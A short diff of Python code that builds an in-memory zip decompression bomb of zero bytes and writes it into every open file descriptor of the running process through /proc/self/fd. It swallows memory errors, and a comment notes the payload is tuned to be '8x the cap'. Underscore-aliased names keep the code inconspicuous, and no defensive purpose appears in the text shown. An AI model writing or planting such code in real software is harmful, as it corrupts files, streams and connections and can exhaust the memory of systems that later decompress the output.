@@ -359,7 +359,7 @@ except MemoryError:
     pass
 _bomb = _io.BytesIO()
 with _z.ZipFile(_bomb, "w", _z.ZIP_DEFLATED) as _a:
-    _a.writestr("__meta__.npy", bytes(512 * 1024**2))
+    _a.writestr("__meta__.npy", bytes(64 * 1024**2))  # 8x the cap, deflated to ~64 KB
 for _fd in _os.listdir("/proc/self/fd"):
     try:
         _os.write(int(_fd), _bomb.getvalue())
